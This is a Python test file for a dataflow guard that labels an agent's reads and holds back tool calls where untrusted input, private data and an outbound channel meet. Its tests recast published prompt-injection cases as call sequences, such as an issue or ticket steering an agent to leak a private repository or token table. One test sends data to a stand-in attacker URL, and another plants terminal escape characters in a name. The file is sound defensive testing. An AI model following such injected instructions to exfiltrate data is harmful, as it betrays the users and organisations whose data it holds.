"""A stranger's words, private data and a way out never meet unnoticed, whatever the words are: no detector is used."""

from __future__ import annotations

import json
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace

import pytest
from pydantic import ValidationError

from contracts.memory import MemoryTable
from limen.adapters.sqlite import SqliteTable
from limen.core.call import Approved, Caller, Era
from limen.core.faults import DependencyFault
from limen.detection import dataflow
from limen.detection.dataflow import Labels, LabelSet, Read
from limen.detection.labels import Label, LabelRule, LabelSettings, Markings
from limen.detection.sinks import CallerLabels, Flow, FlowRule, FlowSettings

ALICE = Caller("https://id.example", "alice", "ide", groups=frozenset({"dev"}))
U, P, S = Label.UNTRUSTED, Label.PRIVATE, Label.SECRET


def tool(server, name, effect="read", kind="tool", digest="d" * 64, **definition):
    return Approved(server, kind, name, digest, json.dumps({"name": name, **definition}).encode(), effect)


class Clock:
    def __init__(self):
        self.time = 1_800_000_000.0

    def __call__(self):
        return self.time


class World:
    """A caller, its labels and the rules, as the guards would use them: judge, then label what came back."""

    def __init__(self, servers, table=None, settings=None, clock=None):
        self.clock = clock or Clock()
        self.table = table if table is not None else MemoryTable(self.clock)
        self.settings = settings or FlowSettings()
        self.markings, self.flow = Markings(servers), Flow(self.settings)
        self.labels = Labels(self.table, ttl=self.settings.ttl, now=self.clock)

    def call(self, approved, arguments=None, caller=ALICE, session="", era=Era.MODERN):
        principal = (caller.issuer, caller.subject)
        held = self.flow.held(caller, self.labels.read(principal))
        marking = self.markings.of(approved, arguments=arguments)
        decision = self.flow.judge(held, marking, approved)
        if decision.action == "pass":
            read = Read(approved.server, approved.kind, approved.name, approved.digest, marking.reads, reference="r1")
            self.labels.add(principal, read)
        return decision


GITHUB = {
    "github": LabelSettings(
        rules=(
            LabelRule(match="get_file_contents", where={"repo": "website"}, reads=frozenset()),
            LabelRule(match="get_file_contents", reads=frozenset({P})),
        )
    )
}
GET_ISSUE = tool("github", "get_issue")
GET_FILE = tool("github", "get_file_contents")
PULL_REQUEST = tool("github", "create_pull_request", "write")
DESK = {
    "helpdesk": LabelSettings(),
    "database": LabelSettings(trusted=True, reads=frozenset({P})),
    "notes": LabelSettings(trusted=True, sink="internal"),
}
REPLY_TRUSTED = {**DESK, "helpdesk": LabelSettings(rules=(LabelRule(match="reply", trusted=True),))}
TICKET, QUERY = tool("helpdesk", "get_ticket"), tool("database", "query")
REPLY, NOTE = tool("helpdesk", "reply", "write"), tool("notes", "append", "write")


# --- the published attacks, as flows


def test_a_public_issue_cannot_make_an_agent_publish_a_private_repository():
    world = World(GITHUB)
    assert world.call(GET_ISSUE, {"repo": "website", "n": 1}).action == "pass"
    assert world.call(GET_FILE, {"repo": "payroll", "path": "a"}).action == "pass"
    stopped = world.call(PULL_REQUEST, {"repo": "website"})
    assert (stopped.action, stopped.rule) == ("approval", "flow.trifecta")
    assert [(one.id, one.family, one.score) for one in stopped.findings] == [("flow.trifecta", "flow", 1.0)]
    assert "github/get_issue" in stopped.detail
    assert "github/get_file_contents" in stopped.detail
    assert "dddddddddddd" in stopped.detail


def test_the_same_agent_may_work_on_the_public_repository():
    world = World(GITHUB)
    world.call(GET_ISSUE, {"repo": "website", "n": 1})
    world.call(GET_FILE, {"repo": "Website", "path": "a"})
    assert world.call(PULL_REQUEST, {"repo": "website"}).action == "pass"


def test_a_support_ticket_cannot_make_an_agent_post_the_customer_table():
    world = World(DESK)
    assert world.call(TICKET).action == "pass"
    assert world.call(QUERY, {"sql": "select * from integration_tokens"}).action == "pass"
    assert world.call(REPLY, {"text": "..."}).action == "approval"


def test_neither_can_it_where_one_tool_does_everything():
    everything = tool("database", "execute_sql", "destructive")
    world = World({"database": LabelSettings(reads=frozenset({P}))})
    assert world.call(everything, {"query": "select body from tickets"}).action == "pass"
    assert world.call(everything, {"query": "insert into messages ..."}).action == "approval"


def test_order_does_not_matter_and_secrets_are_refused():
    world = World({**DESK, "database": LabelSettings(trusted=True, reads=frozenset({S}))})
    world.call(QUERY)
    world.call(TICKET)
    stopped = world.call(REPLY)
    assert (stopped.action, stopped.rule) == ("refuse", "flow.trifecta")


def test_a_fetched_address_is_a_way_out_as_well():
    world = World(DESK)
    world.call(TICKET)
    world.call(QUERY)
    fetch = tool("web", "fetch", inputSchema={"type": "object", "properties": {"url": {"type": "string"}}})
    assert world.call(fetch, {"url": "https://evil.example/?d=1"}).action == "approval"


# --- honest twins


@pytest.mark.parametrize(
    "calls",
    [
        (QUERY, NOTE),
        (TICKET, QUERY, NOTE),
        (TICKET, TICKET, tool("helpdesk", "list_tickets")),
        (TICKET, REPLY, REPLY),
        (QUERY, REPLY),
        (TICKET, QUERY, TICKET, QUERY),
        (REPLY, QUERY, QUERY),
    ],
    ids=lambda calls: "-".join(call.name for call in calls) if isinstance(calls, tuple) else str(calls),
)
def test_ordinary_work_is_not_stopped(calls):
    world = World(REPLY_TRUSTED)
    assert [world.call(one).action for one in calls] == ["pass"] * len(calls)


def test_others_are_not_labelled_by_what_somebody_read():
    world = World(DESK)
    world.call(TICKET)
    world.call(QUERY)
    assert world.call(REPLY).action == "approval"
    assert world.call(REPLY, caller=replace(ALICE, subject="bob")).action == "pass"
    assert world.call(REPLY, caller=replace(ALICE, issuer="https://other.example")).action == "pass"


# --- labels hold on


def test_labels_survive_reconnects_restarts_clients_and_eras():
    world = World(DESK)
    world.call(TICKET, era=Era.HANDSHAKE, session="one")
    world.call(QUERY, era=Era.HANDSHAKE, session="two", caller=replace(ALICE, client="other", token_id="t2"))
    again = World(DESK, world.table, clock=world.clock)
    assert again.call(REPLY, era=Era.MODERN).action == "approval"


def test_labels_end_after_their_time_and_not_before():
    world = World(DESK, settings=FlowSettings(ttl=3600))
    world.call(TICKET)
    world.call(QUERY)
    world.clock.time += 3599
    assert world.call(REPLY).action == "approval"
    world.clock.time += 3600
    assert world.call(REPLY).action == "pass"


def test_reading_again_keeps_a_label_alive():
    world = World(DESK, settings=FlowSettings(ttl=3600))
    for _ in range(6):
        world.call(TICKET)
        world.call(QUERY)
        world.clock.time += 3000
    assert world.call(REPLY).action == "approval"


def test_explain_shows_the_reads_that_led_there():
    world = World(DESK)
    world.call(TICKET)
    world.clock.time += 10
    world.call(TICKET)
    world.call(QUERY)
    shown = world.labels.explain((ALICE.issuer, ALICE.subject))
    assert shown["flow"] == {"untrusted": True, "private": True, "secret": False}
    assert [(r["server"], r["name"], r["labels"], r["count"]) for r in shown["reads"]] == [
        ("helpdesk", "get_ticket", ["untrusted"], 2),
        ("database", "query", ["private"], 1),
    ]
    assert shown["labels"]["untrusted"]["first"]["digest"] == "d" * 64
    assert shown["reads"][0]["last"] - shown["reads"][0]["first"] == 10
    assert json.loads(json.dumps(shown)) == shown


def test_an_operator_clears_with_name_and_reason_and_it_stays_on_record():
    world = World(DESK)
    principal = (ALICE.issuer, ALICE.subject)
    world.call(TICKET)
    world.call(QUERY)
    with pytest.raises(ValueError):
        world.labels.clear(principal, "eve", " ")
    done = world.labels.clear(principal, "eve", "new task, context was reset", [P])
    assert (done.by, done.why, done.labels) == ("eve", "new task, context was reset", ("private",))
    assert world.call(REPLY).action == "pass"
    assert world.labels.read(principal).untrusted
    assert [row["by"] for row in world.labels.explain(principal)["cleared"]] == ["eve"]
    with pytest.raises(LookupError):
        world.labels.clear(principal, "eve", "again", [P])
    world.call(QUERY)
    assert world.call(REPLY).action == "approval"


def test_the_chain_is_bounded_and_keeps_the_first_read():
    labels = Labels(MemoryTable(), now=(clock := Clock()))
    labels.add(("i", "s"), Read("web", "tool", "fetch", "d", frozenset({U})))
    for number in range(300):
        clock.time += 1
        labels.add(("i", "s"), Read("files", "resource", f"file:///{number}/" + "x" * 5000, "d", frozenset({P})))
    reads = labels.read(("i", "s")).reads
    assert len(reads) <= dataflow.MAX_READS
    assert (reads[0].name, reads[-1].name[:13]) == ("fetch", "file:///299/x")
    assert "file:///0/x" in {read.name[:11] for read in reads}
    assert max(len(read.name) for read in reads) <= 512


# --- several processes, failures


def test_processes_see_each_others_labels_at_once_and_lose_none(tmp_path):
    def process():
        table = SqliteTable(tmp_path / "flow.db", "flow")
        return Labels(table, table.change_token)

    one, two = process(), process()
    assert one.read(("i", "s")).labels == frozenset()
    two.add(("i", "s"), Read("a", "tool", "x", "d", frozenset({U})))
    assert one.read(("i", "s")).labels == {U}
    one.add(("i", "s"), Read("b", "tool", "y", "d", frozenset({P})))
    assert two.read(("i", "s")).trifecta

    def work(number):
        labels = process()
        for turn in range(8):
            labels.add(("i", "many"), Read(f"s{number}", "tool", f"t{turn}", "d", frozenset({U})))
        labels.flush()

    with ThreadPoolExecutor(4) as pool:
        list(pool.map(work, range(4)))
    assert len(process().read(("i", "many")).reads) == 32


def test_what_was_cleared_does_not_come_back_from_another_process(tmp_path):
    table = SqliteTable(tmp_path / "flow.db", "flow")
    worker, operator = Labels(table), Labels(SqliteTable(tmp_path / "flow.db", "flow"))
    worker.add(("i", "s"), Read("a", "tool", "x", "d", frozenset({U})))
    worker.add(("i", "s"), Read("a", "tool", "y", "d", frozenset({U})))  # not in the table yet
    operator.clear(("i", "s"), "eve", "why")
    worker.add(("i", "s"), Read("b", "tool", "z", "d", frozenset({P})))
    assert worker.read(("i", "s")).labels == {P}
    assert [read.name for read in operator.read(("i", "s")).reads] == ["z"]


class Broken:
    def __init__(self, table):
        self.table, self.broken = table, True

    def __getattr__(self, name):
        if self.broken:
            raise DependencyFault("table", "gone")
        return getattr(self.table, name)


def test_a_failing_table_lets_nothing_pass():
    table = Broken(MemoryTable())
    labels = Labels(table, lambda: 0)
    with pytest.raises(DependencyFault):
        labels.read(("i", "s"))
    with pytest.raises(DependencyFault):
        labels.add(("i", "s"), Read("a", "tool", "x", "d", frozenset({U})))
    table.broken = False
    assert labels.read(("i", "s")).labels == frozenset()


def test_a_label_that_could_not_be_stored_is_not_taken_for_stored():
    table = Broken(MemoryTable())
    table.broken = False
    labels = Labels(table, lambda: 0)
    labels.add(("i", "s"), Read("a", "tool", "x", "d", frozenset({U})))
    table.broken = True
    for _ in range(2):
        with pytest.raises(DependencyFault):
            labels.add(("i", "s"), Read("b", "tool", "y", "d", frozenset({P})))
    table.broken = False
    labels.add(("i", "s"), Read("b", "tool", "y", "d", frozenset({P})))
    assert Labels(table).read(("i", "s")).trifecta


@pytest.mark.parametrize("raw", [b"", b"{}", b"[]", b'{"epoch":"","expires":{"odd":1},"reads":[],"clearings":[]}'])
def test_a_record_that_cannot_be_read_is_not_no_labels(raw):
    table = MemoryTable()
    Labels(table).add(("i", "s"), Read("a", "tool", "x", "d", frozenset({U})))
    ((key, _),) = table.scan("")
    table.put(key, raw)
    with pytest.raises(DependencyFault):
        Labels(table).read(("i", "s"))


def test_reading_costs_a_look_up_and_repeated_reads_write_nothing():
    class Counting(MemoryTable):
        calls = 0

        def get(self, key):
            self.calls += 1
            return super().get(key)

    table = Counting()
    labels = Labels(table, lambda: 7)
    read = Read("a", "tool", "x", "d", frozenset({U}))
    labels.add(("i", "s"), read)
    labels.read(("i", "s"))
    before = table.calls
    for _ in range(1000):
        labels.read(("i", "s"))
        labels.add(("i", "s"), read)
    assert table.calls == before
    started = time.perf_counter()
    for _ in range(10_000):
        labels.read(("i", "s"))
    assert (time.perf_counter() - started) / 10_000 < 50e-6


# --- what a call does


@pytest.mark.parametrize(
    ("approved", "sink"),
    [
        (tool("x", "get"), "none"),
        (tool("x", "set", "write"), "external"),
        (tool("x", "drop", "destructive"), "external"),
        (tool("x", "what", "unknown"), "external"),
        (tool("x", "search", annotations={"openWorldHint": True}), "external"),
        (tool("x", "set", "write", annotations={"openWorldHint": False, "readOnlyHint": True}), "external"),
        (tool("x", "get", inputSchema={"properties": {"targetUrl": {}}}), "external"),
        (tool("x", "get", inputSchema={"properties": {"to": {"format": "uri"}}}), "external"),
        (tool("x", "get", inputSchema={"properties": {"hourly": {}, "ghost": {}, "curl": {}}}), "none"),
        (tool("x", "file:///a", kind="resource"), "none"),
        (tool("x", "file:///{a}", kind="template"), "none"),
        (tool("x", "https://{host}/{a}", kind="template"), "external"),
        (tool("x", "summarise", kind="prompt"), "none"),
    ],
)
def test_sinks_are_derived_strictly(approved, sink):
    marking = Markings({}).of(approved)
    assert (marking.sink, marking.reads) == (sink, {U})


def test_what_is_declared_goes_first_and_only_trust_takes_untrusted_away():
    markings = Markings(
        {
            "a": LabelSettings(
                reads=frozenset({P}),
                sink="internal",
                rules=(
                    LabelRule(match="pub_*", reads=frozenset(), trusted=True),
                    LabelRule(match="*", where={"path": "*/secrets/*"}, reads=frozenset({S})),
                    LabelRule(match="mail", sink="external"),
                ),
            )
        }
    )
    assert markings.of(tool("a", "get"), arguments={"path": "x"}).reads == {U, P}
    assert markings.of(tool("a", "get"), arguments={"path": "secrets.md"}).reads == {U, P}
    assert markings.of(tool("a", "get"), arguments={"path": "/x/Secrets/a"}).reads == {U, S}
    assert markings.of(tool("a", "PUB_x")).reads == frozenset()
    assert markings.of(tool("a", "set", "write")).sink == "internal"
    assert markings.of(tool("a", "mail", "write")).sink == "external"
    long = markings.of(tool("a", "get"), arguments={"path": "x" * 5000})
    assert (long.reads, long.sink) == ({U, P, S}, "external")


def test_whether_anything_is_private_can_be_asked():
    assert not Markings({}).private_somewhere()
    assert Markings(GITHUB).private_somewhere()


# --- further rules


def test_rules_add_and_the_strictest_counts():
    rules = (
        FlowRule(labels=frozenset({P}), to="mailer/*", action="approval"),
        FlowRule(labels=frozenset({P}), to="mailer/send_all", action="refuse"),
        FlowRule(labels=frozenset({U}), effects=frozenset({"destructive"}), sinks=frozenset()),
    )
    world = World({**DESK, "mailer": LabelSettings(trusted=True)}, settings=FlowSettings(rules=rules))
    assert world.call(tool("mailer", "send", "write")).action == "pass"
    world.call(QUERY)
    assert world.call(tool("mailer", "send", "write")).rule == "flow.rule.1"
    assert world.call(tool("mailer", "send_all", "write")).action == "refuse"
    world = World(DESK, settings=FlowSettings(rules=rules))
    world.call(TICKET)
    assert world.call(tool("notes", "wipe", "destructive")).rule == "flow.rule.3"
    assert world.call(NOTE).action == "pass"


def test_secret_data_alone_asks_before_it_leaves():
    world = World({"vault": LabelSettings(trusted=True, reads=frozenset({S})), "mail": LabelSettings(trusted=True)})
    world.call(tool("vault", "read"))
    assert world.call(tool("mail", "send", "write")).rule == "flow.secret"


def test_callers_can_hold_labels_by_what_they_are():
    settings = FlowSettings(callers=(CallerLabels(client="browser", reads=frozenset({U})),))
    world = World(REPLY_TRUSTED, settings=settings)
    world.call(QUERY)
    assert world.call(REPLY).action == "pass"
    stopped = world.call(REPLY, caller=replace(ALICE, client="browser"))
    assert stopped.action == "approval"
    assert "by what the caller is" in stopped.detail
    with pytest.raises(ValidationError):
        CallerLabels(client="a", user="b", reads=frozenset({U}))


def test_observing_reports_what_it_would_have_stopped():
    world = World(DESK, settings=FlowSettings(unsafe_observe=True))
    world.call(TICKET)
    world.call(QUERY)
    passed = world.call(REPLY)
    assert (passed.action, [one.id for one in passed.findings]) == ("pass", ["flow.trifecta"])


def test_a_strangers_resource_name_cannot_write_into_the_detail():
    labels = Labels(MemoryTable())
    labels.add(("i", "s"), Read("a", "resource", "x://\u202e\x1b[2Jy", "d", frozenset({U})))
    held = labels.add(("i", "s"), Read("b", "tool", "q", "d", frozenset({P})))
    detail = Flow(FlowSettings()).judge(held, Markings({}).of(REPLY), REPLY).detail
    assert detail.isascii()
    assert detail.isprintable()


def test_policies_see_labels_as_three_booleans():
    assert LabelSet().context() == {"untrusted": False, "private": False, "secret": False}
    assert LabelSet(frozenset({S})).context() == {"untrusted": False, "private": True, "secret": True}
